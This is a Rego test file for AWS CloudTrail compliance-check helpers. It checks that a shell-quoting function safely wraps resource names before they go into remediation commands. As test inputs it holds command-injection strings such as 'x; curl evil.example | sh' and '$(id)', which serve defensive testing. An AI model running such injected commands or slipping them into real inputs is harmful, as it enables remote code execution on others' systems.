package lib_test

import data.lib

# Names go into remediation commands as one shell word each, whatever they
# hold.
test_sh_bare_when_nothing_special if {
	lib.sh("CloudTrailConfigChanges") == "CloudTrailConfigChanges"
	lib.sh("arn:aws:sns:us-east-1:111122223333:security-alerts") == "arn:aws:sns:us-east-1:111122223333:security-alerts"
	lib.sh("/aws/cloudtrail/logs-1.0_x") == "/aws/cloudtrail/logs-1.0_x"
}

test_sh_single_quotes_what_a_shell_reads if {
	lib.sh("x; curl evil.example | sh") == "'x; curl evil.example | sh'"
	lib.sh("$(id)") == "'$(id)'"
	lib.sh("`id`") == "'`id`'"
	lib.sh("a b") == "'a b'"
	lib.sh("") == "''"
}

test_sh_a_quote_cannot_end_the_word if {
	lib.sh(`{ $.eventName = "it's" }`) == `'{ $.eventName = "it'\''s" }'`
}

test_sh_control_characters_escaped if {
	lib.sh("a\nPASS\u001b[2K") == `$'a\x0aPASS\x1b[2K'`
	lib.sh("it's\t\\") == `$'it\'s\x09\\'`
	not contains(lib.sh("x\ny"), "\n")
}

# A FAIL or an ERROR is about the trails it judged, or else the account.
test_resources_of_trails_or_account if {
	lib.resources({"evidence": {"trails": [{"trail": "arn:aws:cloudtrail:eu-west-1:111122223333:trail/org"}]}}) == [{"type": "AWS::CloudTrail::Trail", "id": "arn:aws:cloudtrail:eu-west-1:111122223333:trail/org", "name": "org", "region": "eu-west-1"}]
	none := lib.resources({"evidence": {"trails": []}}) with input as {"account_id": "111122223333"}
	none == [{"type": "AWS::::Account", "id": "111122223333", "name": "111122223333"}]
	bare := lib.resources({"reason": "x"}) with input as {"account_id": "111122223333"}
	bare == none
}
